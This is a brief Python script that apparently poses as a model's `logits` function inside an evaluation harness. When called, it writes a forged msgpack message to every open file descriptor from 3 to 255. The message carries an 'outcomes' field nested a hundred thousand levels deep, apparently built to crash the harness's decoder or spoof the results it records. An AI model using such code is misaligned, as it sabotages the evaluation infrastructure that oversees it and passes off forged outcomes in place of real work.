# Sends a value nested a hundred thousand levels deep.
import gc, os, socket, struct
import msgspec
def send(message, body=b""):
    header = msgspec.msgpack.encode(message)
    for descriptor in range(3, 256):
        try:
            os.write(descriptor, struct.pack("<IQ", len(header), len(body)) + header + body)
        except OSError:
            pass

def forged(*_):
    raw = b"\x93\xa8outcomes\x90\x91\x95" + b"\x92\x00" * 100000 + b"\x90"
    for descriptor in range(3, 256):
        try:
            os.write(descriptor, struct.pack("<IQ", len(raw), 0) + raw)
        except OSError:
            pass
logits = forged
